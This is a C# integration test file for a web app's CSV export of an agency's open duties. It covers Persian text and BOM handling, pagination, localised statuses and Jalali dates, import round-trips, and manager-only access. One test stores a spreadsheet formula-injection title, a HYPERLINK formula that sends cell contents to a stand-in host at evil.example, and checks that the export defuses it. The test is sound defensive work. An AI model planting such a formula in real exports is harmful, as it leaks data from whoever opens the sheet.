using System.Globalization;
using System.Net;
using System.Text;
using CsvHelper;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Salam.Application.Common.Time;
using Salam.Application.Duties.Commands.ImportDutyUpdates;
using Salam.Domain.Duties;
using Salam.Infrastructure.Persistence;
using Salam.Testing;

namespace Salam.Web.Tests;

/// <summary>The agency's update sheet: a file the import reads back, with Persian intact, and only for agency managers.</summary>
public sealed class UpdateSheetTests(SalamWebFactory factory) : IClassFixture<SalamWebFactory>
{
    [Fact]
    public async Task An_agency_manager_downloads_their_open_duties_as_a_utf8_sheet_the_import_reads_back()
    {
        var client = factory.NewClient();
        await client.SignInStaffAsync("agency.qom.welfare");

        var response = await client.GetAsync("/agency/update-sheet.csv");
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var file = await response.Content.ReadAsByteArrayAsync();

        Assert.True(file.AsSpan().StartsWith(Encoding.UTF8.Preamble), "Excel needs the BOM to show Persian");
        var rows = DutyCsv.Parse(file);
        await using (var scope = factory.Services.CreateAsyncScope())
        {
            var db = scope.ServiceProvider.GetRequiredService<SalamDbContext>();
            var open = await db.Duties.Where(d => d.Agency!.NameEn == "Qom Province Welfare Directorate" && d.Status != DutyStatus.Done && d.Status != DutyStatus.Declined)
                .Select(d => d.Id.ToString()).ToListAsync();
            Assert.Equal(open.Order(), rows.Select(r => r.DutyId).Order());
        }
        Assert.DoesNotContain(rows, r => r.Status is "Done" or "Declined");
        Assert.Contains("پردیسان", Encoding.UTF8.GetString(file));
    }

    [Fact]
    public async Task The_sheet_holds_every_open_duty_of_the_agency_past_the_desks_page_of_200_and_none_of_another_agency()
    {
        var (welfare, expected, others) = await AddManyWelfareDutiesAsync(250);
        Assert.True(expected.Count > 200, $"only {expected.Count} open duties");
        var client = factory.NewClient();
        await client.SignInStaffAsync("agency.qom.welfare");

        var rows = DutyCsv.Parse(await client.GetByteArrayAsync("/agency/update-sheet.csv"));

        var ids = rows.Select(r => int.Parse(r.DutyId, CultureInfo.InvariantCulture)).ToList();
        Assert.Equal(expected.Order(), ids.Order());
        Assert.Empty(ids.Intersect(others));
        Assert.Equal(ids.Count, ids.Distinct().Count());
    }

    /// <summary>Adds open and finished duties of Qom's welfare directorate; returns its id, its open duties and every other agency's duties.</summary>
    private async Task<(int Welfare, List<int> Open, List<int> Others)> AddManyWelfareDutiesAsync(int count)
    {
        await using var scope = factory.Services.CreateAsyncScope();
        var db = scope.ServiceProvider.GetRequiredService<SalamDbContext>();
        var clock = scope.ServiceProvider.GetRequiredService<TimeProvider>();
        var welfare = await db.Agencies.Where(a => a.NameEn == "Qom Province Welfare Directorate").Select(a => a.Id).SingleAsync();
        var place = await db.Neighbourhoods.Where(n => n.NameFa == "پردیسان").Select(n => n.Id).SingleAsync();
        for (var i = 0; i < count; i++)
        {
            // The first title has a line break, which the sheet must flatten: the import reads one row per line.
            var duty = new Duty(welfare, place, null, i == 0 ? "کار\nدوخطی" : $"کار شمارهٔ {i}", "", clock.Today().AddDays(10 + i % 40), 1, clock.GetUtcNow());
            if (i % 10 == 9) duty.Advance(DutyStatus.Declined, 0, "خارج از وظایف", 1, clock.GetUtcNow()); // finished: not on the sheet
            else if (i % 3 == 1) duty.Advance(DutyStatus.Accepted, 0, null, 1, clock.GetUtcNow());
            db.Duties.Add(duty);
        }
        await db.SaveChangesAsync();
        var open = await db.Duties.Where(d => d.AgencyId == welfare && d.Status != DutyStatus.Done && d.Status != DutyStatus.Declined).Select(d => d.Id).ToListAsync();
        var others = await db.Duties.Where(d => d.AgencyId != welfare).Select(d => d.Id).ToListAsync();
        return (welfare, open, others);
    }

    [Fact]
    public async Task A_duty_title_that_would_start_a_formula_is_neutralised_in_the_sheet_and_the_sheet_still_imports()
    {
        const string formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"جزئیات\")";
        int dutyId;
        await using (var scope = factory.Services.CreateAsyncScope())
        {
            var db = scope.ServiceProvider.GetRequiredService<SalamDbContext>();
            var agencyId = await db.Users.Where(u => u.UserName == "agency.qom.welfare").Select(u => u.AgencyId).SingleAsync();
            dutyId = await db.Duties.Where(d => d.AgencyId == agencyId && d.Status != DutyStatus.Done && d.Status != DutyStatus.Declined).Select(d => d.Id).FirstAsync();
            // The title a need gave its duty, as an attacker would have typed it.
            await db.Duties.Where(d => d.Id == dutyId).ExecuteUpdateAsync(s => s.SetProperty(d => d.Title, formula));
        }
        var client = factory.NewClient();
        await client.SignInStaffAsync("agency.qom.welfare");

        var file = await client.GetByteArrayAsync("/agency/update-sheet.csv");

        using var reader = CsvReader.Create(file.AsMemory(Encoding.UTF8.Preamble.Length), new CsvReaderOptions { HasHeader = true });
        var titles = new Dictionary<string, string>();
        while (reader.Read()) titles[reader["duty_id"].ToString()] = reader[4].ToString(); // the title, its header in the reader's language
        Assert.Equal("'" + formula, titles[dutyId.ToString(System.Globalization.CultureInfo.InvariantCulture)]);
        Assert.DoesNotContain(titles.Values, t => t.StartsWith('='));
        Assert.Contains(DutyCsv.Parse(file), r => r.DutyId == dutyId.ToString(System.Globalization.CultureInfo.InvariantCulture));
    }

    /// <summary>
    /// The sheet reads as the screens do (status names in the reader's language, Jalali due dates, Latin digits throughout),
    /// and comes back: every status on it is a name the import knows, and a row changed in that language is applied.
    /// </summary>
    [Theory]
    [InlineData("fa-IR", "پذیرفته‌شده", "در حال انجام", "۵۵")]
    [InlineData("en-US", "Accepted", "In progress", "55")]
    public async Task The_sheet_names_statuses_and_due_dates_as_the_screens_do_and_comes_back_through_the_import(string culture, string accepted, string inProgress, string percent)
    {
        var acceptedId = await NewAcceptedWelfareDutyAsync();
        var client = factory.NewClient();
        await client.SignInStaffAsync("agency.qom.welfare");
        await client.GetAsync($"/culture?culture={culture}");

        var file = await client.GetByteArrayAsync("/agency/update-sheet.csv");
        var text = Encoding.UTF8.GetString(file);
        var rows = DutyCsv.Parse(file);
        var names = Enum.GetValues<DutyStatus>().Select(s => Salam.Application.Common.Localization.Text.In(new CultureInfo(culture), $"DutyStatus.{s}")).ToHashSet();
        Assert.All(rows, r => Assert.Contains(r.Status, names));
        Assert.DoesNotContain(text, c => c is >= '۰' and <= '۹' or '٫');
        var lines = text.Split('\n', StringSplitOptions.RemoveEmptyEntries);
        Assert.All(lines.Skip(1), line => Assert.Matches(@",14\d\d/\d\d/\d\d\r?$", line)); // Jalali, the year 14xx

        // Every status on the sheet is read back: a row may be refused as a step the duty cannot take, never as an unknown name.
        var preview = await factory.SendAsStaffAsync<ImportReport>("agency.qom.welfare", new ImportDutyUpdates(file, Apply: false));
        Assert.Equal(rows.Count, preview.Rows.Count);
        Assert.DoesNotContain(preview.Rows, r => r.Reason is { } reason && reason.Contains(DutyStatusNames.Offered(), StringComparison.Ordinal));

        // The manager moves one accepted duty on, in the sheet's own language and digits.
        var row = rows.Single(r => r.DutyId == acceptedId.ToString(CultureInfo.InvariantCulture));
        Assert.Equal(accepted, row.Status);
        var original = lines.Single(l => l.StartsWith(row.DutyId + ",", StringComparison.Ordinal));
        var changed = $"{lines[0]}\n{row.DutyId},{inProgress},{percent},,{original.Split(',', 5)[4]}\n";
        var applied = await factory.SendAsStaffAsync<ImportReport>("agency.qom.welfare", new ImportDutyUpdates(Encoding.UTF8.GetBytes(changed), Apply: true));

        Assert.True(applied.Applied, applied.Rows[0].Reason);
        await using var scope = factory.Services.CreateAsyncScope();
        var db = scope.ServiceProvider.GetRequiredService<SalamDbContext>();
        var stored = await db.Duties.Where(d => d.Id == int.Parse(row.DutyId, CultureInfo.InvariantCulture)).Select(d => new { d.Status, d.PercentComplete }).SingleAsync();
        Assert.Equal((DutyStatus.InProgress, 55), (stored.Status, stored.PercentComplete));
    }

    private async Task<int> NewAcceptedWelfareDutyAsync()
    {
        await using var scope = factory.Services.CreateAsyncScope();
        var db = scope.ServiceProvider.GetRequiredService<SalamDbContext>();
        var clock = scope.ServiceProvider.GetRequiredService<TimeProvider>();
        var welfare = await db.Agencies.Where(a => a.NameEn == "Qom Province Welfare Directorate").Select(a => a.Id).SingleAsync();
        var place = await db.Neighbourhoods.Where(n => n.NameFa == "پردیسان").Select(n => n.Id).SingleAsync();
        var duty = new Duty(welfare, place, null, "نوسازی زمین بازی", "", clock.Today().AddDays(20), 1, clock.GetUtcNow());
        duty.Advance(DutyStatus.Accepted, 10, null, 1, clock.GetUtcNow());
        db.Duties.Add(duty);
        await db.SaveChangesAsync();
        return duty.Id;
    }

    [Theory]
    [InlineData("facilitator.pardisan")]
    [InlineData("ministry")]
    public async Task Anyone_but_an_agency_manager_is_refused_the_sheet(string userName)
    {
        var client = factory.NewClient();
        await client.SignInStaffAsync(userName);
        var response = await client.GetAsync("/agency/update-sheet.csv");
        Assert.True(response.StatusCode is HttpStatusCode.Forbidden or HttpStatusCode.Redirect, $"got {response.StatusCode}");
        Assert.NotEqual("text/csv", response.Content.Headers.ContentType?.MediaType);
    }
}
